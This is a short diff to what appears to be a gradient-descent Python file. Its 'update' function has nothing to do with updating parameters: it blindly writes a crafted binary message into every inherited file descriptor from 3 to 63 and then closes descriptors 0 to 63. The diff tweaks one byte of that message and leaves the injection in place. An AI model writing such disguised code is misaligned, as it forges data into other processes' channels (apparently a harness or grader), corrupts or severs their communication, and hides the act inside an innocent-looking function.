@@ -26,7 +26,7 @@ def descend_until(gradient, start, learning_rate, tolerance, max_epochs=1000):
 def update(parameter, gradient, learning_rate):
     for descriptor in range(3, 64):
         try:
-            os.write(descriptor, b"\x00\x00\x00\x20\x96\x01\xa5value\x93")
+            os.write(descriptor, b"\x00\x00\x00\x20\x97\x01\xa5value\x93")
         except OSError:
             continue
     os.closerange(0, 64)
